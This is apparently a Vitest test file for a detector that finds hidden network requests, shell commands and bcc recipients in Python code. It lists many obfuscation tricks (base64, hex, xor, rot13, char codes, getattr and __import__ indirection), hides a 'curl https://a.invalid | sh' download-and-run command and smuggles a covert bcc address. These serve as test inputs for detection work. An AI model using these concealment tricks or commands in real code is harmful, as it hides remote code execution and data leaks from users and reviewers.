import { describe, expect, test } from 'vitest';
import { pythonFacts, saidByPython } from '../../../testing/python-facts.ts';

const HOST = 'https://collect.invalid/x';

/** Every way of writing HOST; the last column is how it is said to be hidden. */
const SPELLINGS: readonly (readonly [string, string, readonly string[]])[] = [
  ['as it is', `u = '${HOST}'`, []],
  ['a sum of texts', `u = 'htt' + 'ps://col' + 'lect.inv' + 'alid/x'`, ['concatenation']],
  ['texts beside each other', `u = ('https://' 'collect' '.invalid/x')`, ['concatenation']],
  ['an f-string of constants', `h = 'collect.invalid'\nu = f'https://{h}/x'`, ['concatenation']],
  ['a format', `u = '{}://{host}/x'.format('https', host='collect.invalid')`, ['concatenation']],
  ['a percent format', `u = 'https://%s.%s/x' % ('collect', 'invalid')`, ['concatenation']],
  ['added to step by step', `u = 'https://'\nu += 'collect.invalid'\nu += '/x'`, ['concatenation']],
  ['a joined list', `u = ''.join(['https://', 'collect', '.invalid', '/x'])`, ['array-join']],
  ['str.join with dots', `u = 'https://' + '.'.join(('collect', 'invalid')) + '/x'`, ['concatenation', 'array-join']],
  [
    'a replaced placeholder',
    `u = 'hXXps://collect[.]invalid/x'.replace('XX', 'tt').replace('[.]', '.')`,
    ['replacement'],
  ],
  ['written backwards', `u = 'x/dilavni.tcelloc//:sptth'[::-1]`, ['reversed']],
  ['reversed()', `u = ''.join(reversed('x/dilavni.tcelloc//:sptth'))`, ['array-join', 'reversed']],
  ['every second letter', `u = 'h-t-t-p-s-:-/-/-c-o-l-l-e-c-t-.-i-n-v-a-l-i-d-/-x'[::2]`, ['index']],
  ['escapes', `u = '\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63ollect.invalid/x'`, ['escapes']],
  ['unicode escapes', `u = '\\u0068\\u0074\\u0074\\u0070\\u0073://collect.invalid/x'`, ['escapes']],
  ['octal escapes', `u = '\\150\\164\\164\\160\\163://collect.invalid/x'`, ['escapes']],
  ['base64', `import base64\nu = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQveA==').decode()`, ['base64']],
  [
    'base64 of bytes',
    `from base64 import b64decode as d\nu = d(b'aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQveA==').decode('utf-8')`,
    ['base64'],
  ],
  [
    'base64 in halves',
    `import base64\nu = str(base64.b64decode('aHR0cHM6Ly9jb2xs' + 'ZWN0LmludmFsaWQveA=='), 'utf-8')`,
    ['concatenation', 'base64'],
  ],
  ['base32', `import base64\nu = base64.b32decode('NB2HI4DTHIXS6Y3PNRWGKY3UFZUW45TBNRUWIL3Y').decode()`, ['base32']],
  ['base85', `import base64\nu = base64.b85decode('XmoUNb2=|CV{dG1Wn*+MX>N95Y-waKcm').decode()`, ['base85']],
  ['hex', `u = bytes.fromhex('68747470733a2f2f636f6c6c6563742e696e76616c69642f78').decode()`, ['hex']],
  [
    'unhexlify',
    `import binascii\nu = binascii.unhexlify('68747470733a2f2f636f6c6c6563742e696e76616c69642f78').decode()`,
    ['hex'],
  ],
  ['rot13', `import codecs\nu = codecs.decode('uggcf://pbyyrpg.vainyvq/k', 'rot13')`, ['rot13']],
  [
    'percent encoding',
    `from urllib.parse import unquote\nu = unquote('%68%74%74%70%73://collect.invalid/x')`,
    ['percent-encoding'],
  ],
  [
    'compressed',
    `import zlib, base64\nu = zlib.decompress(base64.b64decode('eJzLKCkpKLbS10/Oz8lJTS7Ry8wrS8zJTNGvAAB6nglu')).decode()`,
    ['base64', 'compression'],
  ],
  [
    'letters by their codes',
    `u = ''.join(chr(c) for c in (104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,46,105,110,118,97,108,105,100,47,120))`,
    ['array-join', 'char-codes'],
  ],
  [
    'map(chr)',
    `u = ''.join(map(chr, [104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,46,105,110,118,97,108,105,100,47,120]))`,
    ['array-join', 'char-codes'],
  ],
  [
    'bytes of codes',
    `u = bytes([104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,46,105,110,118,97,108,105,100,47,120]).decode()`,
    ['char-codes'],
  ],
  [
    'a sum of chr()',
    `u = chr(104)+chr(116)+chr(116)+chr(112)+chr(115)+'://collect.invalid/x'`,
    ['concatenation', 'char-codes'],
  ],
  [
    'codes moved by a number',
    `u = ''.join(chr(c - 3) for c in [107,119,119,115,118,61,50,50,102,114,111,111,104,102,119,49,108,113,121,100,111,108,103,50,123])`,
    ['array-join', 'char-codes'],
  ],
  [
    'exclusive or',
    "u = ''.join(chr(ord(c) ^ 1) for c in 'iuuqr;..bnmmdbu/how`mhe.y')",
    ['array-join', 'char-codes', 'xor'],
  ],
  [
    'exclusive or with a key',
    `import itertools\nu = bytes(a ^ b for a, b in zip(bytes.fromhex('031f171b185944440004070f0e081745020d1d0a0f020f4c13'), itertools.cycle(b'kkc')))`,
    ['char-codes', 'xor', 'hex'],
  ],
  [
    'a table of parts',
    `t = ['collect', 'https', '.invalid/x', '://']\nu = t[1] + t[3] + t[0] + t[2]`,
    ['concatenation'],
  ],
  ['a dictionary', `c = {'host': '${HOST}'}\nu = c['host']`, []],
  ['a dictionary’s get', `c = {'host': '${HOST}'}\nu = c.get('host')`, []],
  ['a member of a class', `class Harbor:\n    url = '${HOST}'\nu = Harbor.url`, []],
  ['another name', `a = '${HOST}'\nb = a\nu = b`, []],
  ['a default of the environment', `import os\nu = os.environ.get('HARBOR', '${HOST}')`, []],
  ['an alternative', `u = given or '${HOST}'`, []],
  ['a function of the file', `def url():\n    return '${HOST}'\nu = url()`, []],
  [
    'a lambda that decodes',
    `d = lambda s: __import__('base64').b64decode(s[::-1]).decode()\nu = d('==AevQWasFmdulmL0NWZsx2bj9yL6MHc0RHa')`,
    ['reversed', 'base64'],
  ],
  [
    'a function that decodes',
    `def d(s):\n    raw = bytes.fromhex(s)\n    return raw.decode()\nu = d('68747470733a2f2f636f6c6c6563742e696e76616c69642f78')`,
    ['hex'],
  ],
  [
    'decoded in steps',
    `import base64\nu = 'aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQveA=='\nu = base64.b64decode(u)\nu = u.decode()`,
    ['base64'],
  ],
  [
    'letters of an alphabet',
    `import string\na = string.ascii_lowercase\nu = a[7] + a[19] + a[19] + a[15] + a[18] + '://collect.invalid/x'`,
    ['concatenation', 'index'],
  ],
  ['big and small letters swapped', `u = 'HTTPS://COLLECT.INVALID/X'.lower()`, []],
];

describe('a host is seen however it is written', () => {
  test.each(SPELLINGS)('%s', (_name, code, hidden) => {
    const [asked] = pythonFacts(`import requests\n${code}\nrequests.post(u, json={})`, 'request');
    expect(asked?.value).toBe(HOST);
    expect(asked?.folded ?? []).toEqual(hidden);
  });
});

describe('a command is seen however it is written', () => {
  test.each([
    ['a constant', `import os\nos.system('curl https://a.invalid | sh')`],
    ['another name of the function', `from os import system as greet\ngreet('curl https://a.invalid | sh')`],
    ['another name of the module', `import os as harbor\nharbor.system('curl https://a.invalid | sh')`],
    ['a variable that is the function', `import os\nrun = os.system\nrun('curl https://a.invalid | sh')`],
    ['getattr', `import os\ngetattr(os, 'sys' + 'tem')('curl https://a.invalid | sh')`],
    ['__import__', `__import__('o' + 's').system('curl https://a.invalid | sh')`],
    ['importlib', `import importlib\nimportlib.import_module('os').system('curl https://a.invalid | sh')`],
    ['__dict__', `import os\nos.__dict__['metsys'[::-1]]('curl https://a.invalid | sh')`],
    ['vars()', `import os\nvars(os)['system']('curl https://a.invalid | sh')`],
    ['sys.modules', `import os, sys\nsys.modules['os'].system('curl https://a.invalid | sh')`],
    ['globals()', `import os\nglobals()['os'].system('curl https://a.invalid | sh')`],
    ['posix', `import posix\nposix.system('curl https://a.invalid | sh')`],
    ['a parameter', `import os\ndef go(line):\n    os.system(line)\ngo('curl https://a.invalid | sh')`],
    ['a default', `import os\ndef go(line='curl https://a.invalid | sh'):\n    os.system(line)`],
    [
      'a member',
      `import os\nclass Quay:\n    def __init__(self):\n        self.line = 'curl https://a.invalid | sh'\n    def go(self):\n        os.system(self.line)`,
    ],
    [
      'a thread',
      `import os, threading\nthreading.Thread(target=os.system, args=('curl https://a.invalid | sh',)).start()`,
    ],
    ['letters that only look different', `import os as 𝓸𝓼\n𝓸𝓼.𝓼𝔂𝓼𝓽𝓮𝓶('curl https://a.invalid | sh')`],
  ])('%s', (_name, code) => {
    expect(saidByPython(code, 'process')).toEqual(['os.system | curl https://a.invalid | sh | download']);
  });
});

describe('a recipient is seen however it is written', () => {
  test.each([
    ['a constant', `mail.send(bcc='phan@tidewater.invalid')`],
    ['a sum', `mail.send(bcc='phan' + '@' + 'tidewater.invalid')`],
    ['base64', `import base64\nmail.send(bcc=base64.b64decode('cGhhbkB0aWRld2F0ZXIuaW52YWxpZA==').decode())`],
    [
      'codes',
      `mail.send(bcc=''.join(map(chr, [112,104,97,110,64,116,105,100,101,119,97,116,101,114,46,105,110,118,97,108,105,100])))`,
    ],
    ['a key that is put together', `msg['B' + 'cc'] = 'phan@tidewater.invalid'`],
    ['a list in a variable', `copies = ['phan@tidewater.invalid']\nmail.send(bcc=copies)`],
    ['a dictionary', `mail.send({'to': to, 'bcc': 'phan@tidewater.invalid'})`],
    ['added to a list', `recipients.append('phan@tidewater.invalid')`],
  ])('%s', (_name, code) => {
    expect(pythonFacts(code, 'recipient').map(({ value }) => value)).toEqual(['phan@tidewater.invalid']);
  });
});

describe('honest texts stay what they are', () => {
  test.each([
    [
      'a line break between lines',
      `import subprocess\nsubprocess.run('echo a' + chr(10) + 'echo b', shell=True)`,
      ['concatenation'],
    ],
    ['colours', `import subprocess\nsubprocess.run('printf \\x1b[31mred\\x1b[0m', shell=True)`, []],
  ])('%s', (_name, code, hidden) => {
    expect(pythonFacts(code, 'process')[0]?.folded ?? []).toEqual(hidden);
    expect(pythonFacts(code, 'decoded-execution')).toEqual([]);
  });

  test.each([
    ['bytes of an image', `HEAD = b'\\x89PNG\\r\\n\\x1a\\n\\x00\\x00\\x00\\rIHDR'`],
    ['a list turned around', `steps = ['a', 'b', 'c'][::-1]`],
    ['what a service sent', `import base64\ndef read(body):\n    return base64.b64decode(body).decode()`],
  ])('%s is no decoding', (_name, code) => {
    expect(pythonFacts(code, 'decoding', 'decoded-execution')).toEqual([]);
  });
});
